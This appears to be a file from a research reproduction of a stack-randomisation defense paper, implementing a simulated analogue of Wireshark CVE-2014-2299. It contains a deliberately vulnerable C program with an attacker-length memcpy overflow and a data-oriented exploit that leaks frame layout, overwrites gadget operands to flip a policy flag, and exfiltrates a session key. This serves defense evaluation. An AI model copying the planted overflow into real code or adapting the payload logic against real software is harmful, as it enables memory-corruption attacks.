@@ -1,0 +1,202 @@
+"""Wireshark CVE-2014-2299 analogue (paper §V-C, "Real Vulnerabilities").
+
+The real bug: Wireshark's MPEG reader ``cf_read_frame_r()`` trusts the
+frame length from the capture file and ``memcpy``s the frame into a
+fixed-size buffer ``pd``.  Hu et al.'s DOP exploit (which the paper
+re-runs under Smokestack) overflows ``pd`` inside
+``packet_list_dissect_and_cache_record()`` to overwrite that function's
+locals ``col``/``cinfo`` and parameter ``packet_list`` (the gadget
+operands) and the loop condition ``cell_list`` in the *caller*
+``gtk_tree_view_column_cell_set_cell_data()`` — turning the GUI's
+per-cell loop into a DOP gadget dispatcher.
+
+Analogue:
+
+* ``dissect_record`` — the vulnerable function: reads a frame header
+  (attacker-controlled length), ``memcpy_``s the payload into ``pd``,
+  and keeps the gadget operands (``col``, ``cinfo``) as locals, exactly
+  like the original;
+* ``cell_set_data`` — the caller whose ``cell_list`` bound drives the
+  per-record loop (the dispatcher);
+* the gadgets use ``col``/``cinfo`` as a write-what-where pair
+  (the original's column-update code), and success means flipping the
+  application's ``g_export_allowed`` policy flag and exfiltrating the
+  capture key — all within the legitimate CFG.
+
+The attacker knows the file format (it authors the capture file) and the
+reference binary layout; a per-record echo of a status region provides
+the same disclosure channel real Wireshark's verbose logs did.  Under
+Smokestack the vulnerable function's frame is freshly permuted for every
+record, so offsets learned from record *k* are stale for record *k+1*,
+and sprayed writes trip the function identifier — the paper reports
+exactly that: "Smokestack stopped this attack by detecting the
+violations when the overflow corrupted unintended data like [the]
+Smokestack function identifier".
+"""
+
+from __future__ import annotations
+
+from typing import Dict, List, Optional
+
+from repro.attacks.harness import AttackScenario
+from repro.attacks.model import AttackReport
+from repro.attacks.overflow import find_marker, le64, read_le64
+from repro.defenses.base import Defense, ProgramBuild
+from repro.vm.interpreter import ExecutionResult, Machine
+
+#: The capture session key the exploit exfiltrates.
+CAPTURE_KEY = b"WIRESHARK-SESSION-KEY-42-CAFEBABE"
+
+#: Distinctive initial values (program semantics) for locating locals.
+COL_MARKER = 0x0C01AB1E00
+CINFO_MARKER = 0x01F0CAFE00
+CELLS_MARKER = 0x2CE117  # & 0xff = 0x17 -> 23 dispatcher rounds
+
+#: pd buffer size (the real one was 0xffff; scaled).
+PD_SIZE = 512
+
+SOURCE = f"""
+char g_capture_key[64] = "{CAPTURE_KEY.decode()}";
+long g_export_allowed = 0;     /* policy flag: non-control data target */
+
+/* --- vulnerable reader: CVE-2014-2299 ---------------------------------- */
+int dissect_record(char *frame_buf) {{
+    long col = 0x0C01AB1E00;   /* gadget operand: destination selector  */
+    long cinfo = 0x01F0CAFE00; /* gadget operand: value                  */
+    long caplen = 0;
+    long fcs_len = 0;
+    int visible = 1;
+    char pd[{PD_SIZE}];
+    /* frame header: 8-byte length, attacker-controlled */
+    long frame_len = 0;
+    input_read((char*)&frame_len, 8);
+    if (frame_len <= 0) {{
+        return 0;
+    }}
+    input_read(frame_buf, 65536);
+    /* the CVE: length from the file, buffer of fixed size */
+    memcpy_(pd, frame_buf, frame_len);
+    caplen = frame_len;
+    /* verbose status echo (the disclosure channel) */
+    output_bytes(pd, 1536);
+    /* column-update bookkeeping == the DOP gadget:
+       writes cinfo into the slot col selects                       */
+    if ((col & 0xff) == 1) {{
+        long *dst = (long*)(col >> 8);
+        *dst = cinfo;
+    }}
+    return (int)(caplen & 0xff);
+}}
+
+/* --- the caller: the per-cell loop is the gadget dispatcher ------------ */
+int cell_set_data(char *frame_buf) {{
+    long cell_list = 0x2CE117;  /* loop bound, low byte used            */
+    long rendered = 0;
+    long row = 0;
+    while (row < (cell_list & 0xff)) {{
+        int n = dissect_record(frame_buf);
+        if (n == 0) {{
+            break;              /* end of capture file */
+        }}
+        rendered += n;
+        row++;
+    }}
+    /* export path: legitimate code gated on non-control data           */
+    if (g_export_allowed == 0x0DEFACED) {{
+        output_bytes(g_capture_key, 33);
+    }}
+    return (int)(rendered & 0xff);
+}}
+
+int main() {{
+    char reserve[4096];
+    reserve[0] = 0;
+    char *frame_buf = (char*)malloc(65536);
+    return cell_set_data(frame_buf);
+}}
+"""
+
+
+class WiresharkDopAttack(AttackScenario):
+    """CVE-2014-2299 as a DOP attack: flip the export policy flag.
+
+    Per record the attacker sends a frame header (length) plus payload;
+    an oversized length overflows ``pd`` onto the gadget operands in the
+    same frame.  The plan:
+
+    1. record 1 — benign; the verbose echo disloses the frame layout
+       (markers for ``col``/``cinfo``),
+    2. record 2 — overflow sets ``col`` = (&g_export_allowed << 8) | 1
+       and ``cinfo`` = the magic policy value, replaying the disclosed
+       bytes in between so nothing else changes; the gadget at the end of
+       *the same invocation* performs the arbitrary write,
+    3. record 3 — benign; the caller's export path (legitimate code)
+       leaks the capture key.
+
+    Note the overflow and the gadget run in the *same* invocation here —
+    yet Smokestack still stops the attack, because the disclosure is one
+    invocation old: this is the paper's point that the attacker would
+    have to "reverse engineer a function frame and deliver a payload in
+    the same invocation", which the program's channels do not allow.
+    """
+
+    name = "wireshark-dop"
+    victim_function = "dissect_record"
+    description = "CVE-2014-2299: mpeg frame overflow, policy-flag DOP"
+    source = SOURCE
+
+    def goal_met(self, result: ExecutionResult) -> bool:
+        return CAPTURE_KEY in bytes(result.output_data)
+
+    def machine_kwargs(self) -> Dict[str, object]:
+        return {"max_steps": 4_000_000}
+
+    def make_input_hook(self, build: ProgramBuild, rng, attempt):
+        image = build.make_machine().image
+        flag_addr = image.address_of_global("g_export_allowed")
+        state: Dict[str, object] = {"consumed": 0, "queue": [], "round": 0}
+
+        def hook(machine: Machine) -> Optional[bytes]:
+            queue: List[bytes] = state["queue"]  # type: ignore[assignment]
+            if queue:
+                return queue.pop(0)
+            leak = bytes(machine.result.output_data)[state["consumed"] :]
+            state["consumed"] = len(machine.result.output_data)
+            state["round"] += 1
+            if state["round"] == 1:
+                # benign probe record: 16 payload bytes
+                state["queue"] = [b"\x10" * 16]
+                return le64(16)
+            payload = self._strike_payload(leak, flag_addr)
+            if payload is None:
+                state["queue"] = [b"\x10" * 16]
+                return le64(16)
+            # strike record, then one benign record (export runs in the
+            # caller after the loop -> just end the file next)
+            state["queue"] = [payload, le64(0)]
+            return le64(len(payload))
+
+        return hook
+
+    def _strike_payload(self, leak: bytes, flag_addr: int) -> Optional[bytes]:
+        """Overflow payload: replay the disclosed bytes, patch col/cinfo."""
+        col_gap = find_marker(leak, le64(COL_MARKER))
+        cinfo_gap = find_marker(leak, le64(CINFO_MARKER))
+        if col_gap is None or cinfo_gap is None:
+            return None
+        end = max(col_gap, cinfo_gap) + 8
+        if len(leak) < end:
+            return None
+        payload = bytearray(leak[:end])
+        payload[col_gap : col_gap + 8] = le64((flag_addr << 8) | 1)
+        payload[cinfo_gap : cinfo_gap + 8] = le64(0x0DEFACED)
+        return bytes(payload)
+
+
+def run_wireshark_campaign(
+    defense: Defense, restarts: int = 8, seed: int = 0
+) -> AttackReport:
+    """Convenience wrapper used by tests and the security benchmark."""
+    from repro.attacks.harness import run_campaign
+
+    return run_campaign(WiresharkDopAttack(), defense, restarts=restarts, seed=seed)
